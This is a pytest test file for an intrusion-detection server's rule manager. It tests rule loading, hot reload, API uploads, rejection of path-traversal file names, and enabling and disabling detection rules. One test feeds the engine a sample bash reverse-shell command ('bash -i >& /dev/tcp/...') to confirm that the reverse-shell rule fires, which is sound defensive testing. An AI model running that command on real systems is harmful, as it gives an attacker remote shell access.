"""The rules in force: first load, hot reload from the directory and the database, API changes."""

from __future__ import annotations

import threading

import anyio
import pytest

from elkeid.server.detection import RuleFileError, RuleManager, RulesRefused
from elkeid.server.engine import RuleEngine
from elkeid.server.store import Store

pytestmark = pytest.mark.anyio

GOOD = """rules:
  - id: custom_nc
    severity: high
    data_type: execve
    match: {field: exe, endswith: /ncat}
"""
BAD = """rules:
  - id: custom_bad
    severity: high
    data_type: execve
    match: {field: argv, containz: x}
"""


def rule(rid: str, exe: str = "/ncat", **more) -> str:
    extra = "".join(f"\n    {k}: {v}" for k, v in more.items())
    return f"rules:\n  - id: {rid}\n    severity: high\n    data_type: execve\n    match: {{field: exe, endswith: {exe}}}{extra}\n"


def fires(manager: RuleManager, exe: str = "/usr/bin/ncat") -> list[str]:
    return [d.rule.id for d in manager.engine.process({"data_type": 59, "agent_id": "a", "exe": exe})]


@pytest.fixture
def store(tmp_path):
    s = Store(f"sqlite:///{tmp_path / 'db'}")
    yield s
    s.close()


def manager(store, rules_dir, **kw) -> RuleManager:
    return RuleManager(store, RuleEngine(), threading.Lock(), rules_dir=rules_dir, **kw)


async def test_first_load_runs_the_good_rules_and_reports_the_bad(store, tmp_path):
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "good.yaml").write_text(GOOD)
    (rules / "bad.yaml").write_text(BAD)
    m = manager(store, rules)
    report = await m.start()
    assert fires(m) == ["custom_nc"]
    assert report.ok and report.trigger == "start"  # a first load is never refused
    [error] = report.errors
    assert (error["file"], error["line"], error["code"]) == (str(rules / "bad.yaml"), 5, "E131")
    assert "'containz'" in error["message"] and m.status()["errors"] == report.errors
    assert {r["id"] for r in m.rule_list()} >= {"custom_nc", "reverse_shell_dev_tcp"}
    nc = m.rule_info("custom_nc")
    assert (nc["file"], nc["line"], nc["enabled"], nc["source"]) == (str(rules / "good.yaml"), 2, True, "user")


async def test_directory_changes_reload_and_a_bad_change_keeps_the_running_set(store, tmp_path):
    rules = tmp_path / "rules"
    m = manager(store, rules, default_rules=False, poll_interval=0.05)
    await m.start()
    assert rules.is_dir() and fires(m) == []

    async def until(predicate):
        with anyio.fail_after(10):
            while not predicate():
                await anyio.sleep(0.02)

    async with anyio.create_task_group() as tg:
        await tg.start(m.watch)
        (rules / "nc.yaml").write_text(GOOD)
        await until(lambda: fires(m) == ["custom_nc"])
        assert m.last_reload.trigger == "directory" and m.last_reload.ok
        (rules / "nc.yaml").write_text(GOOD + BAD.replace("rules:\n", ""))
        await until(lambda: m.last_reload.ok is False)
        assert fires(m) == ["custom_nc"] and m.refused == 1  # the old set stays
        assert [(e["line"], e["code"]) for e in m.last_reload.errors] == [(9, "E131")]
        await anyio.sleep(0.2)
        assert m.refused == 1  # an unchanged bad directory is not retried every poll
        (rules / "nc.yaml").write_text(rule("custom_socat", "/socat"))
        await until(lambda: m.last_reload.ok)
        assert fires(m) == [] and fires(m, "/usr/bin/socat") == ["custom_socat"]
        tg.cancel_scope.cancel()


async def test_uploads_are_checked_with_everything_else_and_refused_whole(store, tmp_path):
    m = manager(store, tmp_path / "rules")
    await m.start()
    with pytest.raises(RulesRefused) as caught:
        await m.put_file("mine.yaml", BAD, by="alice")
    [error] = caught.value.report.errors
    assert (error["file"], error["line"], error["code"]) == ("<api>/mine.yaml", 5, "E131")
    assert "rules refused, the running rules stay in force: <api>/mine.yaml:5: E131" in str(caught.value)
    assert store.rule_files() == [] and "custom_bad" not in {r["id"] for r in m.rule_list()}
    with pytest.raises(RulesRefused, match=r"dup.yaml:6: E113 rule id 'x' is already defined at <api>/dup.yaml:2"):
        await m.put_file("dup.yaml", rule("x") + rule("x").replace("rules:\n", ""), by="alice")
    report = await m.put_file("mine.yaml", GOOD, by="alice", check_only=True)
    assert report.ok and store.rule_files() == [] and fires(m) == []
    report = await m.put_file("mine.yaml", GOOD, by="alice")
    assert report.ok and fires(m) == ["custom_nc"] and [f["name"] for f in store.rule_files()] == ["mine.yaml"]
    assert m.rule_info("custom_nc")["file"] == "<api>/mine.yaml"
    await m.delete_file("mine.yaml", by="alice")
    assert fires(m) == [] and store.rule_files() == []


async def test_a_bad_directory_file_from_the_start_does_not_block_api_changes(store, tmp_path):
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "bad.yaml").write_text(BAD)
    m = manager(store, rules)
    await m.start()
    assert (await m.put_file("mine.yaml", GOOD, by="alice")).ok and fires(m) == ["custom_nc"]


async def test_deleting_a_file_others_depend_on_is_refused(store, tmp_path):
    m = manager(store, tmp_path / "rules", default_rules=False)
    await m.start()
    await m.put_file("lists.yaml", "lists:\n  catz: [/ncat]\n", by="a")
    await m.put_file("uses.yaml", "rules:\n  - {id: u, severity: low, data_type: 59, match: {field: exe, endswith: "
                                  "{list: catz}}}\n", by="a")  # fmt: skip
    assert fires(m) == ["u"]
    with pytest.raises(RulesRefused, match="unknown list 'catz'"):
        await m.delete_file("lists.yaml", by="a")
    assert fires(m) == ["u"] and len(store.rule_files()) == 2


async def test_names_and_kinds(store, tmp_path):
    m = manager(store, tmp_path / "rules")
    await m.start()
    for name in ("../x.yaml", "x.txt", "", "whitelists/../../x.yaml", "a/b.yaml", "x" * 200 + ".yaml"):
        with pytest.raises(RuleFileError, match="is not valid"):
            await m.put_file(name, GOOD, by="a")
    with pytest.raises(RuleFileError, match="not a Sigma rule; upload it as a rule file"):
        await m.put_file("x.yaml", GOOD, by="a", kind="sigma")
    sigma = "title: t\nid: 5f0b2b8e-6e4e-4a3e-9d0c-7c7e0b9d2a11\nlogsource: {product: linux, category: process_creation}\n" \
            "detection: {sel: {Image|endswith: /ncat}, condition: sel}\nlevel: high\n"
    with pytest.raises(RuleFileError, match="a Sigma rule file; upload it as a Sigma import"):
        await m.put_file("s.yml", sigma, by="a", kind="rules")
    assert (await m.put_file("s.yml", sigma, by="a", kind="sigma")).ok
    assert store.get_rule_file("s.yml")["kind"] == "sigma" and fires(m)


async def test_switching_rules_on_and_off(store, tmp_path):
    m = manager(store, tmp_path / "rules")
    await m.start()
    await m.put_file("off.yaml", rule("custom_off", "/socat", enabled="false"), by="a")
    shell = {"data_type": 59, "agent_id": "a", "exe": "/usr/bin/bash", "argv": "bash -i >& /dev/tcp/203.0.113.5/1 0>&1"}
    assert [d.rule.id for d in m.engine.process(shell)] == ["reverse_shell_dev_tcp"]
    await m.set_enabled("reverse_shell_dev_tcp", False, by="alice", comment="testing")
    assert m.engine.process(shell) == [] and m.rule_info("reverse_shell_dev_tcp")["enabled"] is False
    assert m.rule_info("reverse_shell_dev_tcp")["setting"]["changed_by"] == "alice"
    await m.set_enabled("reverse_shell_dev_tcp", True, by="alice")
    assert len(m.engine.process(shell)) == 1
    assert fires(m, "/usr/bin/socat") == []
    await m.set_enabled("custom_off", True, by="alice")  # the API overrides the file's enabled: false
    assert fires(m, "/usr/bin/socat") == ["custom_off"]
    with pytest.raises(KeyError):
        await m.set_enabled("no_such_rule", False, by="alice")


async def test_hits_survive_reloads(store, tmp_path):
    m = manager(store, tmp_path / "rules")
    await m.start()
    await m.put_file("nc.yaml", GOOD, by="a")
    fires(m)
    fires(m)
    await m.reload()
    fires(m)
    assert m.rule_info("custom_nc")["hits"] == 3 and m.reloads == 2


async def test_another_server_sharing_the_database_picks_up_changes(db_url, tmp_path):
    one, two = Store(db_url), Store(db_url)
    try:
        first = manager(one, tmp_path / "r1")
        second = manager(two, tmp_path / "r2", poll_interval=0.05)
        await first.start()
        await second.start()
        async with anyio.create_task_group() as tg:
            await tg.start(second.watch)
            await first.put_file("nc.yaml", GOOD, by="a")
            await first.set_enabled("custom_nc", False, by="a")
            with anyio.fail_after(10):
                while second.last_reload.trigger != "database" or second.rule_info("custom_nc") is None \
                        or second.rule_info("custom_nc")["enabled"]:  # fmt: skip
                    await anyio.sleep(0.02)
            tg.cancel_scope.cancel()
        assert fires(second) == []
    finally:
        one.close()
        two.close()


async def test_without_the_default_ruleset(store, tmp_path):
    m = manager(store, None, default_rules=False)
    report = await m.start()
    assert report.rules == 0 and m.status()["rules_dir"] is None and m.rule_list() == []
